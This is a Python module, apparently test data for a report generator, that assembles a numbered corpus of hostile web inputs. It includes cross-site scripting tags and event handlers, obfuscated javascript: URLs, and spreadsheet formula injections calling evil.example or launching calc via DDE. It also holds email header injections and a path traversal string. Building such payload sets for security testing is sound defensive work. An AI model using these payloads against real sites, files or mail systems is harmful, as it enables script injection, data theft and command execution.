"""Over 200 different hostile texts that a judged site may have anywhere: markup, addresses, formulas, odd signs."""

from itertools import product

from report.hostile_site import MARK, RAW

_LEAVE = ("", '">', "'>", "-->", "</script>", "</textarea>", "</title>", "</td></tr></table>", "]]>")
"""Ways out of where a text stands."""
_MARKUP = (
    "<script src=//evil.example></script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=//evil.example/x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<details open ontoggle=alert(1)>", "<video onloadstart=alert(1) src=x>",
    "<math><mtext><style><img src=x onerror=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<input autofocus onfocus=alert(1)>",
)  # fmt: skip
_ADDRESSES = tuple(
    scheme + rest
    for scheme, rest in product(
        (
            "javascript:",
            "JaVaScRiPt:",
            "java\tscript:",
            "\x01javascript:",
            "vbscript:",
            "data:text/html,",
            " javascript:",
        ),
        ("alert(1)", "//%0aalert(1)", "<script>alert(1)</script>"),
    )
)
_CALLS = ('HYPERLINK("//evil.example";"点")', "cmd|'/c calc'!A0", 'WEBSERVICE("//evil.example")', "SUM(1,1)")
_FORMULAS = tuple(
    begin + call for begin, call in product(("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", " =", "\u200b="), _CALLS)
)
_HEADERS = (
    "x\r\nBcc: evil@evil.example",
    "x\nContent-Type: text/html\n\n<b>",
    "x\u2028Set-Cookie: a=b",
    "..%2f..%2fetc",
)

PAYLOADS = tuple(
    f"{text}{MARK}{number};".replace("\x00", "")
    for number, text in enumerate(
        dict.fromkeys(
            (
                *(text for text in RAW if len(text) < 300),
                *(leave + markup for leave, markup in product(_LEAVE, _MARKUP)),
                *_ADDRESSES,
                *_FORMULAS,
                *_HEADERS,
            )
        )
    )
)
"""All of them; each ends with a sign and its number, so that it can be found again."""
